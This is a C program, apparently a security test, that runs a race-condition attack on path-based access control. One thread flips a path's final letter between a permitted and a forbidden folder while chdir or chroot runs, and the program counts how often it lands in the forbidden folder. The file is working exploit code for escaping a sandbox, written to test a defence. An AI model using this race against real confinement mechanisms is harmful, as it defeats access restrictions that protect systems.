/* SPDX-License-Identifier: ISC */
/*
 * Attack 1, with chdir: while a thread flips the path between a permitted
 * and a forbidden folder the process moves there, and opens what it then
 * stands in. Each try is a process of its own, for one that is found in the
 * wrong folder is killed.
 *
 * usage: chdir-flip path-of-permitted letter-of-forbidden tries
 *	[chroot|thread|fork]	thread: one moves that has ended when another
 *	opens; fork: a child of who has moved his root opens
 */
#include <sys/stat.h>
#include <sys/wait.h>

#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum {
	PERMITTED = 10,
	FORBIDDEN,
	REFUSED,
	NOWHERE
};

static char path[PATH_MAX];
static volatile char *letter;
static char letters[2];
static bool root;
static bool other; /* another thread moves */
static bool forks; /* what it forks then opens */
static int report[2];

static void *
flip(void *p)
{
	unsigned int i = 0;

	(void)p;
	for (;;)
		*letter = letters[i++ & 1];
	return NULL;
}

static void *
move(void *p)
{
	int *result = p;

	*result = root ? chroot(path) : chdir(path);
	return NULL;
}

static int
move_by_other(void)
{
	pthread_t mover;
	int result = -1;

	if (pthread_create(&mover, NULL, move, &result) != 0 ||
	    pthread_join(mover, NULL) != 0)
		return -1;
	return result;
}

/* The file "name" in each folder holds the folder's letter. */
static int
look(void)
{
	char c = 0;
	int fd = open(root ? "/name" : "name", O_RDONLY);

	if (fd == -1 || read(fd, &c, 1) != 1)
		return NOWHERE;
	return c == letters[0] ? PERMITTED : FORBIDDEN;
}

/* Who has moved makes no call before the child has said what it found. */
static int
look_in_child(void)
{
	char code = NOWHERE;
	pid_t pid = fork();

	if (pid == 0) {
		code = (char)look();
		_exit(write(report[1], &code, 1) == 1 ? 0 : 1);
	}
	(void)waitpid(pid, NULL, 0);
	return NOWHERE;
}

/* What the child said, 0 if it was killed. */
static int
hear(void)
{
	char code = 0;

	(void)close(report[1]);
	if (read(report[0], &code, 1) != 1)
		code = 0;
	(void)close(report[0]);
	return code;
}

static int
try(void)
{
	pthread_t flipper;
	int result = -1;

	if (pthread_create(&flipper, NULL, flip, NULL) != 0)
		return NOWHERE;
	if (other)
		result = move_by_other();
	else
		(void)move(&result);
	if (result == -1)
		return REFUSED;
	return forks ? look_in_child() : look();
}

int
main(int argc, char *argv[])
{
	unsigned long tries, i, count[256] = { 0 }, killed = 0;
	int status, code;
	pid_t pid;

	if (argc < 4)
		errx(2, "usage: chdir-flip path letter tries [chroot]");
	(void)snprintf(path, sizeof(path), "%s", argv[1]);
	letter = path + strlen(path) - 1;
	letters[0] = *letter;
	letters[1] = argv[2][0];
	tries = strtoul(argv[3], NULL, 10);
	forks = argc > 4 && strcmp(argv[4], "fork") == 0;
	root = forks || (argc > 4 && strcmp(argv[4], "chroot") == 0);
	other = argc > 4 && strcmp(argv[4], "thread") == 0;
	for (i = 0; i < tries; i++) {
		if (forks && pipe(report) == -1)
			err(1, "pipe");
		pid = fork();
		if (pid == -1)
			err(1, "fork");
		if (pid == 0)
			_exit(try());
		code = forks ? hear() : 0;
		if (waitpid(pid, &status, 0) != pid)
			err(1, "waitpid");
		if (code != 0)
			count[code]++;
		else if (WIFEXITED(status))
			count[WEXITSTATUS(status) & 0xff]++;
		else if (WTERMSIG(status) == SIGKILL)
			killed++;
	}
	printf("permitted %lu\nforbidden %lu\nrefused %lu\nkilled %lu\n",
	    count[PERMITTED], count[FORBIDDEN], count[REFUSED], killed);
	printf("nowhere %lu\n", count[NOWHERE]);
	return 0;
}
